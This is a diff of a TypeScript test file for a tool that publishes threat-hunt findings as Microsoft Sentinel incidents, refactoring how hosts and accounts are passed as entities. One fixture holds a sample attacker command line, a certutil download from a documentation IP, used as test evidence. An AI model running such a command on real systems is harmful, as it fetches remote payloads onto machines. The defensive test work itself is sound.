@@ -2,10 +2,12 @@ import { afterEach, describe, expect, it } from 'vitest';
 import type { Incident } from '@azure/arm-securityinsight';
 import { createPublisher } from '../../src/sentinel/createPublisher.js';
 import { publishIds, sightingIds } from '../../src/sentinel/publishIds.js';
-import type { PriorReport, PublishOutcome } from '../../src/sentinel/publishTypes.js';
+import type { PublishOutcome } from '../../src/sentinel/publishTypes.js';
+import type { SeenRecord } from '../../src/state/stateStore.js';
+import { entitiesFromText } from '../../src/entities/entityLists.js';
 import type { SentinelConfig } from '../../src/config/loadConfig.js';
 import type { Finding } from '../../src/findings/finding.js';
-import { CONTEXT, finding, startHarness, WORKSPACE_ID, type Harness } from './sentinelFixtures.js';
+import { accountsOf, CONTEXT, finding, hostsOf, startHarness, WORKSPACE_ID, type Harness } from './sentinelFixtures.js';
 
 let harness: Harness | undefined;
 afterEach(async () => {
@@ -24,14 +26,15 @@ function counts(h: Harness) {
 }
 
 /** What the hunt's state would remember after publishing `f` as `outcome`. */
-function priorOf(f: Finding, outcome: PublishOutcome): PriorReport {
+function priorOf(f: Finding, outcome: PublishOutcome): SeenRecord {
   return {
+    ip: f.ip,
     incidentId: outcome.incidentId!,
     generation: outcome.generation,
-    hosts: f.hosts,
-    accounts: f.accounts,
+    entities: f.entities,
     commandLines: f.commandLines,
     firstReported: CONTEXT.now,
+    lastReported: CONTEXT.now,
     lastSeen: f.lastSeen,
   };
 }
@@ -202,7 +205,7 @@ describe('createPublisher: re-sightings', () => {
     const [planned] = await h.publisher.publish([{ finding: f2, prior: priorOf(f1, created!) }], { ...CONTEXT, dryRun: true });
     expect(h.server.requests).toHaveLength(before);
     expect(planned).toMatchObject({ action: 'updated', incidentId: created!.incidentId });
-    const { bookmarkId, relationName } = sightingIds(created!.incidentId!, ['db02'], []);
+    const { bookmarkId, relationName } = sightingIds(created!.incidentId!, entitiesFromText({ hosts: ['db02'] }));
     const payloads = planned!.payloads!;
     expect(payloads.map((p) => `${p.method} ${p.path.replace(/^.*Microsoft.SecurityInsights\//, '').replace(/\?.*$/, '')}`)).toEqual([
       `GET incidents/${created!.incidentId}`,
@@ -236,7 +239,7 @@ describe('createPublisher: re-sightings', () => {
     const f1 = finding('203.0.113.5');
     const [created] = await h.publisher.publish([{ finding: f1 }], CONTEXT);
     const f2 = finding('203.0.113.5', {
-      hosts: [...f1.hosts, 'db02'],
+      hosts: [...hostsOf(f1), 'db02'],
       commandLines: [...f1.commandLines, 'certutil -urlcache -f http://203.0.113.5/x x'],
       lastSeen: new Date('2024-05-02T08:00:00Z'),
     });
@@ -267,8 +270,8 @@ describe('createPublisher: re-sightings', () => {
     expect(await entityNames(h, incidentId)).toEqual(['Account:alice', 'Host:web01', 'Ip:203.0.113.5']);
     const before = h.server.requests.length;
     const f2 = finding('203.0.113.5', {
-      hosts: [...f1.hosts, 'db02.contoso.com'],
-      accounts: [...f1.accounts, 'bob@contoso.com'],
+      hosts: [...hostsOf(f1), 'db02.contoso.com'],
+      accounts: [...accountsOf(f1), 'bob@contoso.com'],
       lastSeen: new Date('2024-05-02T08:00:00Z'),
     });
     const [outcome] = await h.publisher.publish([{ finding: f2, prior: priorOf(f1, created!) }], CONTEXT);
@@ -282,7 +285,7 @@ describe('createPublisher: re-sightings', () => {
       'PUT 201 incidents/ID/comments/ID',
     ]);
     expect(counts(h)).toEqual({ incidents: 1, bookmarks: 2, relations: 2, comments: 1 });
-    const { bookmarkId, relationName } = sightingIds(incidentId, ['DB02.contoso.com'], ['BOB@contoso.com']);
+    const { bookmarkId, relationName } = sightingIds(incidentId, entitiesFromText({ hosts: ['DB02.contoso.com'], accounts: ['BOB@contoso.com'] }));
     const bookmark = h.server.store.get(`${h.server.store.workspaces()[0]}/bookmarks/${bookmarkId}`)!;
     expect(bookmark.properties['entityMappings']).toEqual([
       { entityType: 'IP', fieldMappings: [{ identifier: 'Address', value: '203.0.113.5' }] },
@@ -298,7 +301,7 @@ describe('createPublisher: re-sightings', () => {
     const h = await setup();
     const f1 = finding('203.0.113.5');
     const [created] = await h.publisher.publish([{ finding: f1 }], CONTEXT);
-    const f2 = finding('203.0.113.5', { hosts: [...f1.hosts, 'db02'], lastSeen: new Date('2024-05-02T08:00:00Z') });
+    const f2 = finding('203.0.113.5', { hosts: [...hostsOf(f1), 'db02'], lastSeen: new Date('2024-05-02T08:00:00Z') });
     const item = { finding: f2, prior: priorOf(f1, created!) };
     const [first] = await h.publisher.publish([item], CONTEXT);
     const after = counts(h);
@@ -530,7 +533,7 @@ describe('createPublisher: faults and failures', () => {
     const h = await setup();
     const f1 = ips(2).map((ip) => finding(ip));
     const created = await h.publisher.publish(f1.map((f) => ({ finding: f })), CONTEXT);
-    const { bookmarkId } = sightingIds(created[0]!.incidentId!, ['db02'], []);
+    const { bookmarkId } = sightingIds(created[0]!.incidentId!, entitiesFromText({ hosts: ['db02'] }));
     h.server.faults.next(
       { kind: 'status', status: 400, code: 'BadRequest', message: 'Bookmark rejected' },
       { match: (r) => r.method === 'PUT' && r.path.endsWith(`/bookmarks/${bookmarkId}`) },
